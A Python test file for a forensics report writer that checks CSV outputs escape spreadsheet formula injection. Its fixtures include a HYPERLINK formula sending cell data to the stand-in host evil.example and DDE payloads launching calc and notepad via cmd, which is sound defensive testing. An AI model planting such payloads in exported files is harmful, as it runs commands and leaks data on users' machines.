"""Outputs hold customer data: no spreadsheet formula runs from them."""

from __future__ import annotations

import csv
import os
import stat
from contextlib import contextmanager
from pathlib import Path

import pytest
from fixtures.findings.builder import AFFECTED, EXPOSURES, OUTPUT_FILES, REQUESTS, build

from forensics.report import write_report
from forensics.report.outputs import csv_cell

TINY = Path(__file__).parent / "fixtures" / "tiny_case"
# What a spreadsheet would run: a hyperlink that sends data out, DDE, and the other starts.
HOSTILE_TENANTS = {
    "acct_alpha": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "acct_beta": "@SUM(1+1)*cmd|' /C calc'!A0",
    "acct_gamma": "-2+3+cmd|' /C calc'!A0",
    "acct_delta": "\t=1+1",
}
HOSTILE_REQUEST = ("r-a1", "+cmd|' /C notepad'!A0")


def _hostile(value: str) -> str:
    value = HOSTILE_TENANTS.get(value, value)
    return HOSTILE_REQUEST[1] if value == HOSTILE_REQUEST[0] else value


@contextmanager
def umask(mask: int):
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- spreadsheet formulas ------------------------------------------------------------------------


def test_no_csv_cell_starts_a_formula(tmp_path):
    requests = [(_hostile(r[0]), _hostile(r[1]), *r[2:]) for r in REQUESTS]
    affected = [(_hostile(a[0]), *a[1:]) for a in AFFECTED]
    exposures = [(_hostile(e[0]), _hostile(e[1]), *e[2:]) for e in EXPOSURES]
    case, con = build(tmp_path / "case", requests=requests, affected=affected, exposures=exposures)
    # A negative number stays a number.
    con.execute("UPDATE findings_exploitation SET score = -0.5 WHERE tenant_id = 'acct_researcher'")
    out = tmp_path / "out"
    result = write_report(con, case, out)
    files = [out / n for n in OUTPUT_FILES if n.endswith(".csv")]
    files += [p for p in result.notices if p.suffix == ".csv"]
    assert {p.name for p in files} >= {"affected_responses.csv", "exposures.csv", "review.csv"}
    cells: dict[str, list[str]] = {}
    for path in files:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    cells.setdefault(cell, []).append(path.name)
    risky = [
        (c, names)
        for c, names in cells.items()
        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)
    ]
    assert risky == []
    alpha = "'" + HOSTILE_TENANTS["acct_alpha"]
    assert {"affected_responses.csv", "exposures.csv", "notifications.csv"} <= set(cells[alpha])
    assert {"exposures.csv", "notifications.csv"} <= set(cells["'" + HOSTILE_TENANTS["acct_beta"]])
    assert "review.csv" in cells["'" + HOSTILE_TENANTS["acct_gamma"]]
    request = "'" + HOSTILE_REQUEST[1]
    assert {"affected_responses.csv", "exposures.csv"} <= set(cells[request])
    # The letter's CSV of the tenant whose request id looks like a formula.
    notice_csvs = [n for n in cells[request] if n not in OUTPUT_FILES]
    assert len(notice_csvs) == 1
    assert "exploitation.csv" in cells["-0.5"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("acct=1", "acct=1"),
        ("-5", "-5"),
        ("+5.5", "+5.5"),
        ("-1e3", "-1e3"),
        (-5, -5),
        (-0.25, -0.25),
        (None, ""),
    ],
)
def test_csv_cells(value, cell):
    assert csv_cell(value) == cell
